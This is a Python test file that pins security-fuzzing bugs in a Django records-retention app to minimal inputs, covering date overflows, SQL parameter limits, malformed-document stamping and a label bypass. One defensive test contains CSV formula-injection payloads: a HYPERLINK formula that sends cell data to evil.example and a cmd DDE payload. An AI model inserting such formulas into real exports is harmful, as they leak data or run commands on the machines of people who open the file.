"""The bugs the security fuzzing found, each pinned to its smallest input. The fuzz tests can find
them too, but only by generating their way there; these fail at once and the same way on every
run if one comes back. Each docstring describes the bug as it was found (before commit 424edfd);
each assertion states the expected behaviour."""

import pytest

from records import labels
from records.models import AuditEvent, RetentionExtension
from tests.factories import ScheduleFactory, make_record
from tests.security.fuzzkit import assert_no_server_error, differences, post_form, signed_in, table_counts


def record_form(custodian, schedule):
    return {
        "title": "Toll detail printouts", "contains_cpni": "on", "cpni_categories": ["billing"], "medium": "paper",
        "department": str(custodian.department_id), "custodian": str(custodian.pk), "location": "HQ cabinet 3",
        "schedule": str(schedule.pk), "trigger_date": "2026-02-01", "label_verification": "visual", "label_confirmed": "on",
    }


@pytest.mark.django_db
def test_audit_log_until_the_last_day_of_the_calendar(auditor):
    """views/audit.py adds a day to `until` (9999-12-31 + 1 day: OverflowError)."""
    response = signed_in(auditor).get("/audit/", {"until": "9999-12-31"})
    assert_no_server_error(response, "until=9999-12-31")
    assert response.status_code == 200


@pytest.mark.django_db
@pytest.mark.parametrize("period_value, period_unit", [("10000", "years"), ("2147483647", "months"), ("1000000000", "days")])
def test_a_schedule_longer_than_the_calendar(period_value, period_unit, records_manager, employee):
    """ScheduleForm accepts any positive period; a schedule that runs past 9999-12-31 is saved, and
    then every record logged on it fails in retention.add_period (ValueError / OverflowError).
    Either the schedule is refused, or records on it are logged."""
    manager = signed_in(records_manager)
    response = post_form(manager, "/schedules/new/", {
        "code": "FOREVER", "title": "Forever", "period_value": period_value, "period_unit": period_unit,
        "trigger": "creation", "default_disposition": "destroy", "is_active": "on",
    })
    assert_no_server_error(response, "schedule")
    if response.status_code == 302:  # accepted: then it must be usable
        from records.models import RetentionSchedule

        schedule = RetentionSchedule.objects.get(code="FOREVER")
        logger = signed_in(employee)
        before = table_counts()
        logged = post_form(logger, "/records/new/", record_form(employee, schedule))
        assert_no_server_error(logged, f"logging a record on a {period_value} {period_unit} schedule")
        if logged.status_code != 302:
            assert differences(before, table_counts()) == {}


@pytest.mark.django_db
def test_changing_a_schedule_to_a_period_longer_than_the_calendar(records_manager, employee):
    """The impact preview of a schedule change (schedules.schedule_change_impact) computes every
    record's new expiry with the same unbounded arithmetic."""
    schedule = ScheduleFactory(code="TOLL", period_value=18, period_unit="months")
    make_record(custodian=employee, schedule=schedule)
    response = post_form(signed_in(records_manager), "/schedules/TOLL/edit/", {
        "code": "TOLL", "title": "Toll", "period_value": "10000", "period_unit": "years", "trigger": "creation",
        "default_disposition": "destroy", "is_active": "on",
    })
    assert_no_server_error(response, "preview of a 10000-year period")


@pytest.mark.django_db
def test_extending_retention_past_the_calendar(records_manager, employee):
    """ExtendRetentionForm allows up to 1200 years per extension and extensions add up: the 7th
    one of a record created in 2026 runs past 9999 and the extend view fails with ValueError
    ("year 10428 is out of range") instead of refusing the extension."""
    record = make_record(custodian=employee)
    manager = signed_in(records_manager)
    for number in range(1, 8):
        before = table_counts()
        response = post_form(manager, f"/records/{record.reference}/extend/",
                             {"period_value": "1200", "period_unit": "years", "reason": "Perpetual litigation"})
        assert_no_server_error(response, f"extension #{number} by 1200 years")
        if response.status_code != 302:
            assert differences(before, table_counts()) == {}
    assert RetentionExtension.objects.filter(record=record).count() <= 7


@pytest.mark.django_db
def test_holding_more_references_than_sqlite_takes_parameters(records_manager, employee):
    """holds.records_by_references puts every listed reference in one IN (...) query. SQLite takes
    at most 250,000 parameters, so a pasted list of 250,001 distinct references ends in
    OperationalError "too many SQL variables" (a 503 'database unavailable' page with the
    uncommitted DatabaseUnavailableMiddleware, a 500 without it) instead of the form's
    "No such record" error. The body is 1.4 MB, within DATA_UPLOAD_MAX_MEMORY_SIZE."""
    make_record(custodian=employee)
    digits = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ"

    def base36(number):
        text = ""
        while True:
            number, rest = divmod(number, 36)
            text = digits[rest] + text
            if not number:
                return text

    references = " ".join(base36(n) for n in range(250_001))
    manager = signed_in(records_manager)
    before = table_counts()
    response = post_form(manager, "/holds/new/",
                         {"matter": "Smith v. Carrier", "reason": "Litigation", "scope": "references", "references": references})
    assert_no_server_error(response, "250,001 references")
    assert differences(before, table_counts()) == {}


@pytest.mark.parametrize("data", [b"\xfe\xff\x00\x00", b"\xef\xbb\xbfhello\x00world", "a\x00b".encode("utf-16")])
def test_a_stamped_text_copy_passes_the_label_check(data):
    """labels.stamp_document promises that its copy passes check_document. A text file with a
    byte-order mark may contain NUL characters (it is read as text); the stamped copy is written
    as UTF-8 without a byte-order mark, so its NULs make check_document call it unsupported:
    the user's stamped copy is 'cannot be read' instead of 'labelled'."""
    assert labels.check_document("notes.txt", data).outcome is labels.Outcome.NOT_LABELLED
    stamped = labels.stamp_document("notes.txt", data)
    verdict = labels.check_document(stamped.file_name, stamped.content)
    assert verdict.labelled, f"{stamped.content!r}: {verdict.outcome.value}, {verdict.reason}"


@pytest.mark.django_db
def test_the_stamped_copy_endpoint_with_a_bom_text_file(employee):
    """The same through /label-check/stamped-copy/ and back through /label-check/."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    client = signed_in(employee)
    stamped = client.post("/label-check/stamped-copy/", {"document": SimpleUploadedFile("notes.txt", b"\xef\xbb\xbfa\x00b")})
    assert stamped.status_code == 200
    checked = client.post("/label-check/", {"document": SimpleUploadedFile("notes-CONFIDENTIAL.txt", stamped.content)})
    assert checked.status_code == 200
    assert AuditEvent.objects.filter(action="label.checked").count() == 1
    assert b"result-labelled" in checked.content, "the stamped copy is not recognised as labelled"


# --------------------------------------------------------------------------- stamping odd documents

_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _members(data):
    import io
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _word_document(**changes):
    """A real .docx with CONFIDENTIAL in its header, some parts replaced (bytes) or removed (None)."""
    from tests.documents import docx_bytes, zip_bytes

    members = _members(docx_bytes(["Call detail records"], header="CONFIDENTIAL"))
    for name, content in changes.items():
        if content is None:
            members.pop(name)
        else:
            members[name] = content
    return zip_bytes(members)


def _pdf_with_an_unknown_filter():
    from tests.documents import pdf_bytes

    # Same length, so the cross-reference offsets stay right; PDFium opens it, pypdf cannot decode it.
    return pdf_bytes(["CONFIDENTIAL"]).replace(b"/ASCII85Decode", b"/ASCII85Dxcode", 1)


MALFORMED = {
    # python-docx: section.header -> document_part.header_part(rId) -> KeyError 'rId9'
    "docx-without-document-rels": ("report.docx", lambda: _word_document(**{"word/_rels/document.xml.rels": None})),
    # python-docx: document.settings.odd_and_even_pages_header_footer -> AttributeError 'evenAndOddHeaders_val'
    "docx-settings-not-settings": ("report.docx", lambda: _word_document(**{"word/settings.xml": b"<x/>"})),
    # python-docx: header.add_paragraph() -> AttributeError 'add_p'
    "docx-header-not-a-header": ("report.docx", lambda: _word_document(**{"word/header1.xml": b"<x/>"})),
    # python-docx: document.sections -> AttributeError 'sectPr_lst'
    "docx-body-not-a-document": ("report.docx", lambda: _word_document(**{"word/document.xml": b"<x/>"})),
    # pypdf: writer.write -> decode_stream_data -> NotImplementedError "Unsupported filter /ASCII85Dxcode"
    "pdf-unknown-stream-filter": ("report.pdf", _pdf_with_an_unknown_filter),
}


@pytest.mark.django_db
@pytest.mark.parametrize("case", sorted(MALFORMED))
def test_stamped_copy_of_a_malformed_document(case, employee):
    """labels._stamp_docx catches errors only while python-docx opens the file, and _stamp_pdf only
    _PYPDF_ERRORS: a well-formed package whose parts are not what python-docx expects, or a PDF
    stream with a filter pypdf does not know, escape as KeyError / AttributeError /
    NotImplementedError and /label-check/stamped-copy/ answers 500 instead of 400 with the
    form's "damaged" error."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    name, build = MALFORMED[case]
    client = signed_in(employee)
    before = table_counts()
    response = client.post("/label-check/stamped-copy/", {"document": SimpleUploadedFile(name, build())})
    assert_no_server_error(response, case)
    if response.status_code != 200:
        assert response.status_code == 400 and differences(before, table_counts()) == {}


def test_stamped_copy_of_a_word_document_with_a_doctype():
    """A document.xml with a DOCTYPE and an entity reference: the check reads it (entities are not
    resolved), python-docx writes the stamped copy without the DOCTYPE but with the reference, so
    the copy is not well-formed XML and the check calls it damaged. Either refuse such a file, or
    make a copy that passes the check."""
    entity_body = (
        f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY e "x">]><w:document {_W}><w:body>'
        "<w:p><w:r><w:t>&e;</w:t></w:r></w:p></w:body></w:document>"
    ).encode()
    data = _word_document(**{"word/document.xml": entity_body})
    try:
        stamped = labels.stamp_document("report.docx", data)
    except labels.StampError:
        return
    verdict = labels.check_document(stamped.file_name, stamped.content)
    assert verdict.labelled, f"the stamped copy is {verdict.outcome.value}: {verdict.reason}"


def test_an_orphan_header_part_is_not_a_label():
    """labels._docx_stories searches every part named word/header*.xml, whether or not a section
    refers to it. A header part no section uses is never shown by Word, yet its CONFIDENTIAL
    makes the document 'labelled': a file whose visible text carries no marking passes the file
    check (and can be attested as labelled on a record)."""
    from tests.documents import docx_bytes, zip_bytes

    members = _members(docx_bytes(["Quarterly call detail report"]))
    members["word/header7.xml"] = f"<w:hdr {_W}><w:p><w:r><w:t>CONFIDENTIAL</w:t></w:r></w:p></w:hdr>".encode()
    result = labels.check_document("report.docx", zip_bytes(members))
    assert result.outcome is not labels.Outcome.LABELLED, result.reason


@pytest.mark.django_db
@pytest.mark.parametrize("title", ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"])
def test_hold_report_neutralizes_spreadsheet_formulas(title, employee, records_manager):
    """Stored text reaches the hold report CSV verbatim (holds.hold_report_rows): a record title an
    employee typed as =HYPERLINK(...) or +cmd|... becomes a live formula when legal staff open
    the report in a spreadsheet (CSV / formula injection, CWE-1236). The HTML pages escape it;
    the CSV export should neutralize a cell starting with = + - @ (e.g. prefix a ')."""
    import csv
    import io

    from records.models import LegalHold

    record = make_record(custodian=employee, title=title)
    manager = signed_in(records_manager)
    post_form(manager, "/holds/new/", {"matter": "Smith", "reason": "Litigation", "scope": "references",
                                       "references": record.reference})
    hold = LegalHold.objects.get()
    response = manager.get(f"/holds/{hold.pk}/report.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = [cell for row in rows for cell in row]
    assert title not in cells, f"the title {title!r} is exported as a live spreadsheet formula"


@pytest.mark.django_db
@pytest.mark.parametrize("path, form", [
    ("/netops/receive/", {"select_9999999999999999999999": "on", "serial_9999999999999999999999": "X"}),
    ("/netops/destroy/", {"records": ["9999999999999999999999"], "destroyed_on": "2026-11-20"}),
])
def test_a_record_id_beyond_64_bits(path, form, netops):
    """forms.RecordChoices (a ModelMultipleChoiceField) looks the posted ids up with pk__in; an id
    beyond 64 bits reaches SQLite and fails with OverflowError ("Python int too large to convert
    to SQLite INTEGER") instead of the field's "not one of the available choices" error.
    (A single ModelChoiceField is fine: Django guards exact lookups against out-of-range ints.)"""
    client = signed_in(netops)
    before = table_counts()
    response = post_form(client, path, form)
    assert_no_server_error(response, f"{path} {form}")
    assert differences(before, table_counts()) == {}
